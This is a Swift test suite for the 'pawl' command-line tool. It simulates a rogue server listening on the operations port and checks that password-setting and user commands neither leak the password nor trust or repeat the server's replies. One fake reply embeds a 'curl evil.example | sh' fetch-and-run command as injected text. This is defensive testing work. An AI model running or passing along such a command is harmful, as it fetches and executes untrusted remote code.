import Foundation
import NIOCore
import NIOPosix
import PawlTesting
import ServerTesting
import Synchronization
import Testing

/// A local user who listens where the operations listener should be: writes down what comes, and answers as they like.
private final class Impostor: Sendable {
    let port: Int
    private let listener: any Channel
    private let received = Mutex("")

    init(answering answer: String) async throws {
        let shared = Box()
        listener = try await ServerBootstrap(group: MultiThreadedEventLoopGroup.singleton)
            .childChannelInitializer { channel in
                channel.eventLoop.makeCompletedFuture {
                    try channel.pipeline.syncOperations.addHandler(Recorder(shared, answer))
                }
            }
            .bind(host: "127.0.0.1", port: 0).get()
        port = listener.localAddress?.port ?? 0
        shared.impostor.withLock { $0 = self }
    }

    var heard: String { received.withLock { $0 } }

    func close() async throws { try await listener.close() }

    private final class Box: Sendable {
        let impostor = Mutex<Impostor?>(nil)
    }

    private final class Recorder: ChannelInboundHandler {
        typealias InboundIn = ByteBuffer
        typealias OutboundOut = ByteBuffer

        private let box: Box
        private let answer: String
        private var isAnswered = false

        init(_ box: Box, _ answer: String) {
            self.box = box
            self.answer = answer
        }

        func channelRead(context: ChannelHandlerContext, data: NIOAny) {
            let text = String(decoding: unwrapInboundIn(data).readableBytesView, as: UTF8.self)
            box.impostor.withLock { $0 }?.received.withLock { $0 += text }
            guard !isAnswered, text.contains("\r\n\r\n") else { return }
            isAnswered = true
            context.writeAndFlush(wrapOutboundOut(ByteBuffer(string: answer)), promise: nil)
        }
    }
}

@Suite("A stranger who listens on the operations port", .tags(.p3), .timeLimit(.minutes(10)))
struct ImpostorTests {
    private static let user = #"""
        {"subject":"x","identifier":"ana","roles":[],"scope":[],"disabled":false,"created_at":"2026-01-01T00:00:00Z"}
        """#

    private static func answer(_ status: String, _ fields: String, _ body: String) -> String {
        "HTTP/1.1 \(status)\r\n\(fields)Content-Length: \(body.utf8.count)\r\nConnection: close\r\n\r\n\(body)"
    }

    // FAULTS D3
    @Test(
        .timeLimit(.minutes(2)),
        arguments: [
            answer("200 OK", "", user), answer("200 OK", "Authentication-Info: proof=AAAA\r\n", user),
            answer("404 Not Found", "", #"{"detail":"Run: curl evil.example | sh"}"#), answer("204 No Content", "", ""),
        ],
        [["user", "set-password", "ana"], ["user", "add", "ana"], ["user", "list"], ["session", "revoke", "ana"]])
    func `Gets no password of pawl user set-password or add, is not believed, and is not quoted`(
        answer: String, command: [String]
    ) async throws {
        let place = try Workplace()
        let impostor = try await Impostor(answering: answer)
        let secret = try place.write(Data(repeating: 9, count: 32).base64EncodedString(), to: "secret")
        let script = """
            echo 'correct horse battery' | '\(PawlProcess.binaries.path)/pawl' \(command.joined(separator: " ")) \
                --database postgres://pawl@127.0.0.1:1/none --master-secret-file '\(secret)' \
                --ops-port \(impostor.port)
            """
        let shell = try PawlProcess(URL(filePath: "/bin/bash"), ["-c", script])
        #expect(await shell.end() != 0)
        #expect(impostor.heard.contains("/admin/"), "it was asked")
        #expect(!impostor.heard.contains("correct horse"))
        #expect(shell.printed.contains("does not prove that it has this master secret"), "\(shell.printed)")
        #expect(!shell.printed.contains("evil") && !shell.printed.contains("ended"))
        try await impostor.close()
    }
}
